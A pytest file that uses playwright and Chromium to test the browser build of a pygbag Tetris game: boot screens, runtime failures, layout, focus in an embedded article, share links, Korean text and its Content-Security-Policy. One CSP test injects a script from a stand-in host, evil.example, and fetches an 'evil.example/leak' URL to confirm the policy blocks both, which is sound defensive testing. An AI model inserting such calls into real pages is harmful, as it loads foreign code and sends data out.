"""The page in a real browser: Debian's Chromium driven by playwright.

The bundle is built into a temporary folder and served on loopback. There is no CDN here, so the
real page must say the Python runtime is unavailable; a stand-in loader (served in place of
pygbag's pythons.js) then drives the boot screen through progress, "click to start" and the
running game, the way the runtime and our Python bootstrap do. Screenshots go to test-output/.
"""

from __future__ import annotations

import functools
import http.server
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from tests.webkit import CHROMIUM, chromium, web_python

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "test-output"
LANDSCAPE_AR = 800 / 580
PORTRAIT_AR = 420 / 700

pytest.importorskip("playwright.sync_api", reason="playwright is not installed (pip install -e .[dev])")
sys.path.insert(0, str(ROOT / "tools"))

import serve_web  # noqa: E402

pytestmark = [
    pytest.mark.skipif(not Path(CHROMIUM).is_file(), reason="Debian chromium is not installed (./build.sh test installs it with apt-get)"),
    pytest.mark.timeout(180),
]

# Plays the part of pygbag's loader plus our Python bootstrap: reports interpreter download
# progress through #progress, then the stages, then waits for the click (vtBoot.clicked) and runs.
# The stand-in counts in window.__polls how often it has looked for the click since it was ready.
# AUTOPLAY_LOADER: the loader's audio probe found sound already allowed (MM.UME true at once).
STAND_IN_LOADER = """
window.MM = window.MM || { UME: false };
const bar = document.getElementById("progress");
let pct = 0;
const dl = setInterval(() => {
  pct += 4; bar.value = pct;
  if (pct >= 100) {
    clearInterval(dl);
    window.python = { config: { debug: false } };
    vtBoot.stage("archive");
    setTimeout(() => { vtBoot.stage("packages"); }, 150);
    setTimeout(() => { vtBoot.stage("compiled"); vtBoot.ready(); }, 300);
    const wait = setInterval(() => {
      window.__polls = (window.__polls || 0) + 1;  // tests wait on this: the loader looked again
      if (vtBoot.clicked) { clearInterval(wait); window.__started = Date.now(); vtBoot.running(); }
    }, 50);
  }
}, 60);
"""
AUTOPLAY_LOADER = "window.MM = { UME: true };\n" + STAND_IN_LOADER


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory):
    out = tmp_path_factory.mktemp("browser") / "web"
    res = subprocess.run(
        [web_python(), str(ROOT / "tools" / "build_web.py"), "--pygbag-python", web_python(), "--out", str(out), "--site-url", ""],
        capture_output=True, text=True, timeout=600, cwd=ROOT,
    )
    assert res.returncode == 0, res.stdout + res.stderr
    handler = functools.partial(QuietHandler, directory=str(out))
    server = QuietServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


class QuietHandler(serve_web.BundleHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


class QuietServer(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request, client_address) -> None:
        if not isinstance(sys.exc_info()[1], ConnectionError):  # the browser dropped a request
            super().handle_error(request, client_address)


@pytest.fixture(scope="module")
def browser():
    OUT.mkdir(exist_ok=True)
    with chromium() as b:
        yield b


@pytest.fixture
def page_at(browser):
    pages = []

    def open_page(width: int, height: int = 600):
        ctx = browser.new_context(viewport={"width": width, "height": height})
        ctx.set_default_timeout(30_000)
        pg = ctx.new_page()
        pages.append(ctx)
        return pg

    yield open_page
    for ctx in pages:
        ctx.close()


# Resolves after the page has drawn two more frames: what a key press or a focus change does to
# scrolling and focus is visible by then.
NEXT_FRAMES = "() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))"


def wait_js(pg, expression: str, timeout: float = 5_000) -> None:
    """page.wait_for_function without eval() (the article page's policy runs no script at all):
    the page itself checks `expression` on every animation frame and answers once it holds."""
    held = pg.evaluate(
        "() => new Promise(resolve => { const t0 = performance.now(); const check = () => { "
        f"if ({expression}) resolve(true); "
        f"else if (performance.now() - t0 > {timeout}) resolve(false); "
        "else requestAnimationFrame(check); }; check(); })")
    assert held, f"timed out waiting for {expression}"


def stand_in_runtime(pg, body: str = STAND_IN_LOADER) -> None:
    pg.route("**/pythons.js", lambda route: route.fulfill(status=200, content_type="application/javascript", body=body))


LAYOUT_JS = """() => {
  const de = document.documentElement, c = document.getElementById("canvas").getBoundingClientRect();
  return { layout: de.dataset.layout, canvasW: document.getElementById("canvas").width,
           canvasH: document.getElementById("canvas").height,
           vw: innerWidth, vh: innerHeight, cw: de.clientWidth, ch: de.clientHeight,
           sw: de.scrollWidth, sh: de.scrollHeight, bw: document.body.scrollWidth, bh: document.body.scrollHeight,
           left: c.left, top: c.top, right: c.right, bottom: c.bottom, width: c.width, height: c.height };
}"""


def assert_fits(layout: dict, width: int, height: int) -> None:
    # No scrollbar: nothing is wider or taller than the frame, and no bar eats into it.
    assert layout["cw"] == width and layout["ch"] == height, layout
    assert layout["sw"] <= width and layout["sh"] <= height, layout
    assert layout["bw"] <= width and layout["bh"] <= height, layout
    # The canvas is fully visible, keeps the game's aspect ratio, fills one side and is centred.
    assert layout["left"] >= 0 and layout["top"] >= 0, layout
    assert layout["right"] <= width + 0.5 and layout["bottom"] <= height + 0.5, layout
    ar = PORTRAIT_AR if layout["layout"] == "portrait" else LANDSCAPE_AR
    assert layout["canvasW"] / layout["canvasH"] == pytest.approx(ar, rel=0.01), layout
    assert layout["width"] / layout["height"] == pytest.approx(ar, rel=0.01)
    assert layout["width"] == pytest.approx(width, abs=1) or layout["height"] == pytest.approx(height, abs=1)
    assert layout["left"] == pytest.approx(width - layout["right"], abs=1)
    assert layout["top"] == pytest.approx(height - layout["bottom"], abs=1)


@pytest.mark.parametrize("width", [680, 360, 320, 1200])
def test_runtime_unavailable_is_explained_and_page_fits(site: str, page_at, width: int) -> None:
    pg = page_at(width)
    pg.goto(f"{site}/index.html")
    pg.wait_for_selector("#boot[data-state=failed]", timeout=40_000)
    error = pg.locator("#error")
    assert error.is_visible()
    text = error.inner_text()
    assert "Python runtime unavailable" in text
    assert "offline" in text and "reload" in text.lower()
    assert pg.locator("#error button", has_text="Reload").is_visible()
    box = error.bounding_box()
    assert box and box["y"] >= 0 and box["y"] + box["height"] <= 600 and box["x"] + box["width"] <= width
    assert_fits(pg.evaluate(LAYOUT_JS), width, 600)
    pg.screenshot(path=str(OUT / f"browser-unavailable-{width}x600.png"))


def test_runtime_that_does_not_answer_times_out_then_recovers_if_it_arrives(site: str, page_at) -> None:
    pg = page_at(680)
    held = []
    pg.route("**/pythons.js", lambda route: held.append(route))  # hangs, as behind a dead or crawling CDN
    pg.clock.install()  # the page's 20 s loader timeout, without waiting 20 s
    pg.goto(f"{site}/index.html", wait_until="commit")
    pg.wait_for_selector("#boot[data-state=loading]", state="attached", timeout=10_000)
    pg.clock.run_for(15_000)
    assert pg.get_attribute("#boot", "data-state") == "loading"  # not before the timeout
    pg.clock.run_for(7_000)
    pg.wait_for_selector("#boot[data-state=failed]", timeout=10_000)
    assert pg.get_attribute("#boot", "data-reason") == "timeout"
    assert "Python runtime unavailable" in pg.inner_text("#error")
    pg.screenshot(path=str(OUT / "browser-timeout-680x600.png"))
    # A slow loader that finally arrives takes the message away and loading carries on.
    assert len(held) == 1
    pg.clock.resume()
    held[0].fulfill(status=200, content_type="application/javascript", body=STAND_IN_LOADER)
    pg.wait_for_selector("#start:visible", timeout=20_000)
    assert not pg.locator("#error").is_visible()
    assert pg.get_attribute("#boot", "data-state") == "ready"


@pytest.mark.parametrize("width", [680, 360, 320, 1200])
def test_boot_progress_click_to_start_and_focus(site: str, page_at, width: int) -> None:
    pg = page_at(width)
    stand_in_runtime(pg)
    pg.goto(f"{site}/index.html")
    pg.wait_for_function("vtBoot.progress > 0.3 && vtBoot.state === 'loading'", timeout=20_000)
    seen = pg.evaluate("vtBoot.progress")
    lit = pg.locator("#pages i.on").count()
    assert 0 < lit < 32
    assert "%" in pg.inner_text("#log")
    pg.screenshot(path=str(OUT / f"browser-loading-{width}x600.png"))

    pg.wait_for_selector("#start:visible", timeout=20_000)
    assert pg.evaluate("vtBoot.progress") == 1.0 > seen
    assert pg.locator("#pages i.on").count() == 32
    assert "CLICK TO START" in pg.inner_text("#start")
    assert pg.evaluate("window.MM.UME") is False and pg.evaluate("vtBoot.clicked") is False
    # Opened on its own, the page has the keyboard: Enter or Space on the button start the game.
    assert pg.evaluate("document.activeElement.id") == "start"
    assert_fits(pg.evaluate(LAYOUT_JS), width, 600)
    pg.screenshot(path=str(OUT / f"browser-ready-{width}x600.png"))

    pg.click("#start")
    pg.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
    assert pg.evaluate("window.MM.UME") is True and pg.evaluate("vtBoot.clicked") is True
    assert not pg.locator("#boot").is_visible()
    assert pg.evaluate("document.activeElement && document.activeElement.id") == "canvas"
    assert_fits(pg.evaluate(LAYOUT_JS), width, 600)


def test_game_keys_never_scroll_the_article(site: str, page_at) -> None:
    pg = page_at(1000, 800)
    stand_in_runtime(pg)
    pg.goto(f"{site}/embed.html")
    frame_el = pg.wait_for_selector("iframe#game")
    frame_el.scroll_into_view_if_needed()
    frame = frame_el.content_frame()
    assert frame is not None
    frame.wait_for_selector("#start:visible", timeout=30_000)
    frame.click("#start")
    frame.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
    # Record, after our handler, whether each game key had its default action cancelled.
    frame.evaluate("""() => { window.__keys = [];
        addEventListener('keydown', e => __keys.push([e.code, e.defaultPrevented])); }""")
    frame.click("#canvas")
    assert frame.evaluate("document.activeElement.id") == "canvas"
    before = pg.evaluate("scrollY")
    assert pg.evaluate("document.documentElement.scrollHeight > innerHeight + 200"), "article must be scrollable"
    for key in ("Space", "ArrowDown", "ArrowUp", "ArrowLeft", "ArrowRight", "PageDown", "End"):
        pg.keyboard.press(key)
    frame.wait_for_function("__keys.length === 7", timeout=5_000)
    pg.evaluate(NEXT_FRAMES)  # a key's scroll would be on screen by now
    assert pg.evaluate("scrollY") == before
    keys = frame.evaluate("__keys")
    assert [k for k, _ in keys] == ["Space", "ArrowDown", "ArrowUp", "ArrowLeft", "ArrowRight", "PageDown", "End"]
    assert all(prevented for _, prevented in keys), keys
    # Tab toggles the allocator: it stays with the game instead of moving focus out.
    frame.evaluate("__keys = []")
    pg.keyboard.press("Tab")
    assert frame.evaluate("__keys") == [["Tab", True]]
    assert frame.evaluate("document.activeElement.id") == "canvas"
    # Other keys keep their default behaviour.
    frame.evaluate("__keys = []")
    pg.keyboard.press("KeyP")
    assert frame.evaluate("__keys") == [["KeyP", False]]


@pytest.mark.parametrize("width", [1000, 360])
def test_embed_page_shows_the_game_frame_at_600px(site: str, page_at, width: int) -> None:
    pg = page_at(width, 800)
    pg.goto(f"{site}/embed.html")
    frame_el = pg.wait_for_selector("iframe#game")
    frame_el.scroll_into_view_if_needed()
    box = frame_el.bounding_box()
    assert box is not None
    assert box["height"] == pytest.approx(600, abs=0.5)
    article = pg.locator("article").bounding_box()
    inner = pg.evaluate("""() => { const a = document.querySelector('article'), s = getComputedStyle(a);
        return a.clientWidth - parseFloat(s.paddingLeft) - parseFloat(s.paddingRight); }""")
    assert box["width"] == pytest.approx(inner, abs=1), (box, article)
    frame = frame_el.content_frame()
    frame.wait_for_selector("#boot[data-state=failed]", timeout=40_000)
    frame_layout = frame.evaluate(LAYOUT_JS)
    assert_fits(frame_layout, round(box["width"]), 600)
    head = pg.evaluate("""() => Object.fromEntries([...document.querySelectorAll('meta[property], meta[name]')]
        .map(m => [m.getAttribute('property') || m.getAttribute('name'), m.content]))""")
    assert head["og:image"].endswith("og-image.png") and head["twitter:card"] == "summary_large_image"
    assert head["og:url"] == "./embed.html"  # built without SITE_URL: the server makes it absolute
    assert head["og:title"] and len(head["og:description"]) > 60
    pg.screenshot(path=str(OUT / f"browser-embed-{width}.png"))


def test_game_waits_for_the_click_even_when_sound_is_already_allowed(site: str, page_at) -> None:
    """pygbag's audio probe may unlock sound on its own; the game still starts only on the click."""
    pg = page_at(680)
    stand_in_runtime(pg, AUTOPLAY_LOADER)
    pg.goto(f"{site}/index.html")
    pg.wait_for_selector("#start:visible", timeout=20_000)
    # The loader has looked for the click five times (or started anyway: the failure to catch).
    pg.wait_for_function("window.__polls >= 5 || window.__started", timeout=10_000)
    assert pg.get_attribute("#boot", "data-state") == "ready"
    assert pg.evaluate("window.__started") is None
    pg.click("#boot")  # anywhere on the boot screen
    pg.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
    assert pg.evaluate("document.activeElement && document.activeElement.id") == "canvas"


def test_missing_game_archive_is_explained(site: str, page_at) -> None:
    """The bootstrap reports an archive it cannot fetch as its own failure, not the runtime's."""
    pg = page_at(360)
    stand_in_runtime(pg, STAND_IN_LOADER.replace('vtBoot.stage("archive");', 'vtBoot.stage("archive"); vtBoot.fail("archive", "vram-tetris.tar.gz: FileNotFoundError"); return;'))
    pg.goto(f"{site}/index.html")
    pg.wait_for_selector("#boot[data-state=failed]", timeout=20_000)
    assert pg.get_attribute("#boot", "data-reason") == "archive"
    text = pg.inner_text("#error")
    assert "Game files unavailable" in text and "vram-tetris.tar.gz" in text
    assert "Python runtime unavailable" not in text
    assert_fits(pg.evaluate(LAYOUT_JS), 360, 600)
    pg.screenshot(path=str(OUT / "browser-archive-missing-360x600.png"))


def test_interpreter_abort_fails_at_once(site: str, page_at) -> None:
    """A WebAssembly interpreter that cannot load aborts; the page says so without waiting."""
    pg = page_at(680)
    abort = "setTimeout(() => Promise.reject(new Error('Aborted(both async and sync fetching of the wasm failed)')), 200);"
    stand_in_runtime(pg, abort)
    pg.goto(f"{site}/index.html")
    pg.wait_for_selector("#boot[data-state=failed]", timeout=10_000)
    assert pg.get_attribute("#boot", "data-reason") == "runtime"
    assert "Python runtime unavailable" in pg.inner_text("#error")


def test_loaded_game_never_takes_the_keyboard_from_the_article(site: str, page_at) -> None:
    """Cross-origin, as on Dev.to: until the reader clicks the game, their keys scroll the article."""
    pg = page_at(1000, 800)
    game = site.replace("127.0.0.1", "localhost")  # another origin for the iframe
    pg.context.route("**/pythons.js", lambda route: route.fulfill(status=200, content_type="application/javascript", body=STAND_IN_LOADER))
    pg.goto(f"{site}/embed.html")
    pg.evaluate("url => { document.querySelector('iframe#game').src = url; }", f"{game}/index.html")
    frame = pg.frame_locator("iframe#game")
    frame.locator("#start").wait_for(state="visible", timeout=30_000)
    game_frame = pg.wait_for_selector("iframe#game").content_frame()
    game_frame.wait_for_function("window.__polls >= 3", timeout=10_000)  # ready, and idling
    pg.evaluate(NEXT_FRAMES)
    assert pg.evaluate("document.activeElement.tagName") == "BODY"
    assert pg.evaluate("document.hasFocus()")
    before = pg.evaluate("scrollY")
    pg.keyboard.press("PageDown")
    pg.keyboard.press("Space")
    wait_js(pg, f"scrollY > {before} + 300", timeout=5_000)
    # The keys did not reach the game: it is still waiting for its click.
    assert frame.locator("#boot").get_attribute("data-state") == "ready"


def test_mouse_wheel_over_the_game_scrolls_the_article(site: str, page_at) -> None:
    """Readers scroll past the embed with the wheel: the frame must not swallow it."""
    pg = page_at(1000, 800)
    stand_in_runtime(pg)
    pg.goto(f"{site}/embed.html")
    frame_el = pg.wait_for_selector("iframe#game")
    frame = frame_el.content_frame()
    frame.wait_for_selector("#start:visible", timeout=30_000)
    for phase in ("loading screen", "running game"):
        pg.evaluate("window.scrollTo(0, 200)")
        wait_js(pg, "scrollY === 200", timeout=5_000)
        box = frame_el.bounding_box()
        pg.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        pg.mouse.wheel(0, 300)
        wait_js(pg, "scrollY > 400", timeout=5_000)  # fails here if the frame keeps the wheel
        if phase == "loading screen":
            frame.click("#start")
            frame.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)


# What pygbag's runtime does after the frame loses focus: refocus the canvas on mouseenter.
HOVER_REFOCUS = """
window.addEventListener("blur", () => {
  const c = document.getElementById("canvas");
  c.addEventListener("mouseenter", () => { window.__refocused = (window.__refocused || 0) + 1; c.focus(); });
});
"""


def test_hovering_the_game_after_leaving_it_keeps_the_keyboard_in_the_article(site: str, page_at) -> None:
    """Played, clicked back into the article, moved the mouse across the game: keys still scroll."""
    pg = page_at(1000, 800)
    game = site.replace("127.0.0.1", "localhost")
    pg.context.route("**/pythons.js", lambda route: route.fulfill(status=200, content_type="application/javascript", body=HOVER_REFOCUS + STAND_IN_LOADER))
    pg.goto(f"{site}/embed.html")
    pg.evaluate("url => { document.querySelector('iframe#game').src = url; }", f"{game}/index.html")
    frame_el = pg.wait_for_selector("iframe#game")
    frame_el.scroll_into_view_if_needed()
    frame = frame_el.content_frame()
    frame.wait_for_selector("#start:visible", timeout=30_000)
    frame.click("#start")
    frame.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
    assert pg.evaluate("document.activeElement.tagName") == "IFRAME"
    pg.mouse.click(30, 30)  # back into the article, outside the frame
    assert pg.evaluate("document.activeElement.tagName") == "BODY"
    frame.evaluate("() => { window.__moves = 0; addEventListener('mousemove', () => { __moves++; }); }")
    box = frame_el.bounding_box()
    pg.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, steps=5)
    frame.wait_for_function("__moves > 0", timeout=5_000)  # the game has seen the pointer arrive
    pg.evaluate(NEXT_FRAMES)
    assert pg.evaluate("document.activeElement.tagName") == "BODY"
    assert frame.evaluate("window.__refocused || 0") == 0
    before = pg.evaluate("scrollY")
    pg.keyboard.press("PageDown")
    wait_js(pg, f"scrollY > {before} + 300", timeout=5_000)
    # A click still gives the game the keyboard.
    frame.click("#canvas")
    assert pg.evaluate("document.activeElement.tagName") == "IFRAME"
    assert frame.evaluate("document.activeElement.id") == "canvas"


# --- Content-Security-Policy: the page and what pygbag's runtime does, nothing else --------

RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", e => {
  window.__csp.push(e.violatedDirective + " " + (e.blockedURI || "inline"));
});
"""

# Does what pygbag's loader and interpreter do in the browser: add a script element from the
# runtime's CDN (the interpreter's main.js), compile WebAssembly, run JavaScript through eval()
# (Python's platform.window bridge), fetch the game archive from this site and the package
# index from the CDN, play audio from a blob, then carry on like the stand-in loader.
RUNTIME_PROBE = """
window.__probe = {};
const cdn = document.getElementById("site").src.replace(/pythons\\.js.*$/, "");
const s = document.createElement("script");
s.src = cdn + "cpython312/main.js";
s.onload = () => { window.__probe.mainjs = window.__mainjs === true; };
s.onerror = () => { window.__probe.mainjs = false; };
document.head.appendChild(s);
WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
  .then(() => { window.__probe.wasm = true; }, () => { window.__probe.wasm = false; });
try { window.__probe.eval = eval("6 * 7") === 42; } catch (e) { window.__probe.eval = false; }
fetch("vram-tetris.tar.gz").then(r => r.arrayBuffer()).then(b => { window.__probe.archive = b.byteLength > 1000; },
                                                          () => { window.__probe.archive = false; });
fetch(cdn.replace(/cdn\\/.*$/, "") + "archives/repo/index.json").then(r => r.json())
  .then(j => { window.__probe.index = j.ok === true; }, () => { window.__probe.index = false; });
const a = new Audio(URL.createObjectURL(new Blob([new Uint8Array(64)], { type: "audio/ogg" })));
a.load();
window.__probe.audio = true;
""" + STAND_IN_LOADER


def test_page_carries_a_content_security_policy(site: str, page_at) -> None:
    pg = page_at(680)
    pg.goto(f"{site}/index.html", wait_until="commit")
    csp = pg.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert "object-src 'none'" in csp and "base-uri 'self'" in csp
    script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src")).split()
    hosts = [t for t in script_src[1:] if not t.startswith("'")]
    assert hosts == ["https://pygame-web.github.io"], script_src  # the runtime's CDN only
    embed = page_at(680)
    embed.goto(f"{site}/embed.html", wait_until="commit")
    assert "script-src 'none'" in embed.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")


def test_runtime_works_under_the_policy(site: str, page_at) -> None:
    pg = page_at(680)
    pg.add_init_script(RECORD_VIOLATIONS)
    pg.route("**/pythons.js", lambda route: route.fulfill(status=200, content_type="application/javascript", body=RUNTIME_PROBE))
    pg.route("**/cpython312/main.js", lambda route: route.fulfill(status=200, content_type="application/javascript", body="window.__mainjs = true;"))
    pg.route("**/archives/repo/index.json", lambda route: route.fulfill(status=200, content_type="application/json", body='{"ok": true}'))
    pg.goto(f"{site}/index.html")
    pg.wait_for_function("window.__probe && ['mainjs', 'wasm', 'eval', 'archive', 'index', 'audio']"
                         ".every(k => k in window.__probe)", timeout=20_000)
    assert pg.evaluate("window.__probe") == {k: True for k in ("mainjs", "wasm", "eval", "archive", "index", "audio")}
    pg.wait_for_selector("#start:visible", timeout=20_000)  # the inline onload handler ran
    pg.click("#start")
    pg.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
    assert pg.evaluate("window.__csp") == []
    pg.screenshot(path=str(OUT / "browser-csp-running-680x600.png"))


def test_runtime_unavailable_path_works_under_the_policy(site: str, page_at) -> None:
    pg = page_at(360)
    pg.add_init_script(RECORD_VIOLATIONS)
    pg.goto(f"{site}/index.html")
    pg.wait_for_selector("#boot[data-state=failed]", timeout=40_000)
    assert "Python runtime unavailable" in pg.inner_text("#error")
    assert pg.locator("#error button", has_text="Reload").is_visible()
    assert pg.evaluate("window.__csp") == []


def test_policy_blocks_what_the_runtime_does_not_need(site: str, page_at) -> None:
    """The policy is enforced: a script from another host or a plugin never loads."""
    pg = page_at(680)
    pg.add_init_script(RECORD_VIOLATIONS)
    stand_in_runtime(pg)
    pg.route("https://evil.example/**", lambda route: route.fulfill(status=200, content_type="application/javascript", body="window.__evil = true;"))
    pg.goto(f"{site}/index.html")
    pg.evaluate("""() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js';
        document.head.appendChild(s);
        fetch('https://evil.example/leak').catch(() => {}); }""")
    pg.wait_for_function("window.__csp.length >= 2", timeout=10_000)
    assert pg.evaluate("window.__evil") is None
    violations = pg.evaluate("window.__csp")
    assert any(v.startswith("script-src") and "evil.example" in v for v in violations), violations
    assert any(v.startswith("connect-src") and "evil.example" in v for v in violations), violations


@pytest.mark.parametrize("width,expected", [(360, "portrait"), (412, "portrait"), (680, "landscape")])
def test_the_page_picks_the_layout_for_the_frame(site: str, page_at, width: int, expected: str) -> None:
    """A phone-wide frame gets the portrait canvas, filling nearly all of its 600 px height."""
    pg = page_at(width)
    stand_in_runtime(pg)
    pg.goto(f"{site}/index.html")
    pg.wait_for_selector("#start:visible", timeout=20_000)
    assert pg.evaluate("vtBoot.layout()") == expected
    fit = pg.evaluate(LAYOUT_JS)
    assert fit["layout"] == expected
    assert (fit["canvasW"], fit["canvasH"]) == ((420, 700) if expected == "portrait" else (800, 580))
    assert_fits(fit, width, 600)
    if expected == "portrait":
        assert fit["height"] >= 0.85 * 600, fit
    pg.click("#start")
    pg.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
    fit = pg.evaluate(LAYOUT_JS)
    assert_fits(fit, width, 600)
    if expected == "portrait":
        assert fit["height"] >= 0.85 * 600, fit
    pg.screenshot(path=str(OUT / f"browser-layout-{width}x600.png"))


@pytest.mark.parametrize("width", [360, 412])
def test_the_article_embed_on_a_phone_gets_the_portrait_canvas(site: str, page_at, width: int) -> None:
    pg = page_at(width, 800)
    stand_in_runtime(pg)
    pg.goto(f"{site}/embed.html")
    frame_el = pg.wait_for_selector("iframe#game")
    frame_el.scroll_into_view_if_needed()
    frame = frame_el.content_frame()
    frame.wait_for_selector("#start:visible", timeout=30_000)
    box = frame_el.bounding_box()
    fit = frame.evaluate(LAYOUT_JS)
    assert fit["layout"] == "portrait"
    assert_fits(fit, round(box["width"]), 600)
    assert fit["height"] >= 0.85 * box["height"], (fit, box)


def test_turning_the_frame_switches_the_layout_before_the_game_runs(site: str, page_at) -> None:
    pg = page_at(360)
    stand_in_runtime(pg)
    pg.goto(f"{site}/index.html")
    pg.wait_for_selector("#start:visible", timeout=20_000)
    assert pg.evaluate(LAYOUT_JS)["layout"] == "portrait"
    pg.set_viewport_size({"width": 900, "height": 600})
    pg.wait_for_function("document.documentElement.dataset.layout === 'landscape'", timeout=5_000)
    fit = pg.evaluate(LAYOUT_JS)
    assert (fit["canvasW"], fit["canvasH"]) == (800, 580)
    assert_fits(fit, 900, 600)
    # The running game asks the page again: the choice follows the frame after the start too.
    pg.click("#start")
    pg.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
    pg.set_viewport_size({"width": 360, "height": 600})
    pg.wait_for_function("vtBoot.layout() === 'portrait'", timeout=5_000)


def test_a_touch_screen_is_told_to_tap(site: str, browser) -> None:
    ctx = browser.new_context(viewport={"width": 360, "height": 600}, has_touch=True, is_mobile=True)
    try:
        pg = ctx.new_page()
        stand_in_runtime(pg)
        pg.goto(f"{site}/index.html")
        pg.wait_for_selector("#start:visible", timeout=20_000)
        assert "TAP TO START" in pg.inner_text("#start")
        log = pg.inner_text("#log")
        assert "tap" in log and "arrow keys" not in log and "Shift" not in log
        pg.screenshot(path=str(OUT / "browser-touch-ready-360x600.png"))
    finally:
        ctx.close()


def test_the_layout_rule_gives_the_reader_the_larger_text(site: str, page_at) -> None:
    """At every frame size the page's choice shows text at least 11 CSS px, or larger than the other would."""
    pg = page_at(680)
    pg.route("**/pythons.js", lambda route: route.fulfill(status=200, content_type="application/javascript", body=""))
    pg.goto(f"{site}/index.html")
    sizes = [(w, h) for w in range(280, 1500, 20) for h in (400, 500, 600, 700, 900)]
    picks = pg.evaluate("s => s.map(([w, h]) => vtBoot.chooseLayout(w, h))", sizes)
    small = {"landscape": (800, 580, 13), "portrait": (420, 700, 14)}

    def text_px(name: str, w: int, h: int) -> float:
        cw, ch, px = small[name]
        return px * min(w / cw, h / ch)

    for (w, h), pick in zip(sizes, picks):
        other = "portrait" if pick == "landscape" else "landscape"
        assert text_px(pick, w, h) >= min(11.0, text_px(other, w, h)), (w, h, pick)
    at_600 = [pick for (w, h), pick in zip(sizes, picks) if h == 600]
    flips = sum(a != b for a, b in zip(at_600, at_600[1:]))
    assert at_600[0] == "portrait" and at_600[-1] == "landscape" and flips == 1


SHARE_CODE = "vt1" + "AbC9" * 30


def test_copy_puts_a_replay_link_on_the_clipboard(site: str, browser) -> None:
    ctx = browser.new_context(viewport={"width": 680, "height": 600})
    try:
        ctx.grant_permissions(["clipboard-read", "clipboard-write"], origin=site)
        pg = ctx.new_page()
        stand_in_runtime(pg)
        pg.goto(site + "/index.html?x=1#frag")
        pg.evaluate("code => vtShare.copy(code)", SHARE_CODE)
        pg.wait_for_function("() => vtShare.status !== 'pending'")
        assert pg.evaluate("() => vtShare.status") == "copied"
        link = pg.evaluate("() => navigator.clipboard.readText()")
        assert link == f"{site}/index.html?x=1&replay={SHARE_CODE}"
        assert pg.locator("#share").count() == 0  # nothing shown: it is on the clipboard
    finally:
        ctx.close()


def test_copy_refused_shows_the_link_selected(site: str, page_at) -> None:
    """Inside an article's iframe the clipboard is usually refused: the link is shown selected."""
    pg = page_at(360)
    stand_in_runtime(pg)
    pg.goto(site + "/index.html")
    pg.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('denied')); }")
    pg.evaluate("code => vtShare.copy(code)", SHARE_CODE)
    pg.wait_for_function("() => vtShare.status === 'selected'")
    box = pg.locator("#share input")
    assert box.is_visible()
    assert box.input_value() == f"{site}/index.html?replay={SHARE_CODE}"
    selected = pg.evaluate("() => { const i = document.querySelector('#share input');"
                           " return [i.selectionStart, i.selectionEnd, document.activeElement === i]; }")
    assert selected == [0, len(box.input_value()), True]
    shown = pg.locator("#share").bounding_box()
    assert shown["x"] >= 0 and shown["x"] + shown["width"] <= 360
    pg.screenshot(path=str(OUT / "share-selected-360.png"))
    pg.locator("#share button").click()
    assert not pg.locator("#share").is_visible()


def korean_page(browser, width: int = 360, locale: str = "ko-KR", saved: str | None = None):
    ctx = browser.new_context(viewport={"width": width, "height": 600}, locale=locale)
    ctx.set_default_timeout(30_000)
    if saved is not None:
        ctx.add_init_script(f"localStorage.setItem('vram-tetris.settings', JSON.stringify({{language: '{saved}'}}))")
    return ctx, ctx.new_page()


@pytest.mark.parametrize("width", [680, 360])
def test_a_korean_reader_gets_a_korean_boot_screen(site: str, browser, width: int) -> None:
    ctx, pg = korean_page(browser, width)
    try:
        fonts: list[str] = []
        pg.on("request", lambda r: fonts.append(r.url) if "/later/" in r.url else None)
        stand_in_runtime(pg)
        pg.goto(f"{site}/index.html")
        pg.wait_for_selector("#start:visible", timeout=20_000)
        assert pg.evaluate("document.documentElement.lang") == "ko" and pg.evaluate("vtBoot.language") == "ko"
        assert "클릭해서 시작" in pg.inner_text("#start")
        assert "KV 캐시 할당 완료" in pg.inner_text("#log")
        assert "테트리스" in pg.inner_text("#boot .title")
        assert_fits(pg.evaluate(LAYOUT_JS), width, 600)
        pg.screenshot(path=str(OUT / f"browser-ready-ko-{width}x600.png"))
        assert fonts == []  # the page itself never loads the game's font: the Python bootstrap does
    finally:
        ctx.close()


def test_the_players_saved_language_beats_the_browsers(site: str, browser) -> None:
    ctx, pg = korean_page(browser, saved="en")
    try:
        stand_in_runtime(pg)
        pg.goto(f"{site}/index.html")
        pg.wait_for_selector("#start:visible", timeout=20_000)
        assert pg.evaluate("vtBoot.language") == "en" and "CLICK TO START" in pg.inner_text("#start")
    finally:
        ctx.close()
    ctx, pg = korean_page(browser, locale="en-US")
    try:
        stand_in_runtime(pg)
        pg.goto(f"{site}/index.html?lang=ko")
        pg.wait_for_selector("#start:visible", timeout=20_000)
        assert pg.evaluate("vtBoot.language") == "ko"
    finally:
        ctx.close()


def test_korean_failure_message_and_the_font_beside_the_page(site: str, browser) -> None:
    import urllib.request

    ctx, pg = korean_page(browser)
    try:
        pg.goto(f"{site}/index.html")  # no CDN here: the runtime cannot load
        pg.wait_for_selector("#boot[data-state=failed]", timeout=40_000)
